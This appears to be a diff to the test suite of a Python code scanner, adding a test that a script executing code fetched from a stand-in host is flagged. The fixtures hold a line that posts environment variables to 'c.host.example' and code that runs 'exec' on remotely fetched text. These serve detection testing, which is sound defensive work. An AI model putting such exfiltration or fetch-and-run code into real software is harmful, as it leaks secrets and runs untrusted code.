@@ -92,3 +92,21 @@ def test_in_words_one_variable_is_not_all() -> None:
     sent = ":\n  requests.post('https://c.host.example/x', data=raw)"
     assert word_steps(f"for raw in os.environ{sent}") != []
     assert word_steps(f"for raw in os.environ.get('B').split(){sent}") == []
+
+
+@each_row(("address", "level"), [("'https://c.host.example/x.py'", "error"), ("f'{base()}/x.py'", "warning")])
+def test_code_that_another_file_fetches_from_an_unknown_address_is_a_warning(
+    tmp_path: Path, address: str, level: str
+) -> None:
+    found = in_files(
+        tmp_path,
+        [
+            *("scripts/a.py", "from fetch import get\nexec(get())\n"),
+            *(
+                "scripts/fetch.py",
+                f"import requests\nfrom base import base\ndef get():\n    return requests.get({address}).text\n",
+            ),
+        ],
+    )
+    assert [(each.rule, each.level.value) for each in found] == [("fetched-code-executed", level)]
+    assert "\0" not in found[0].message
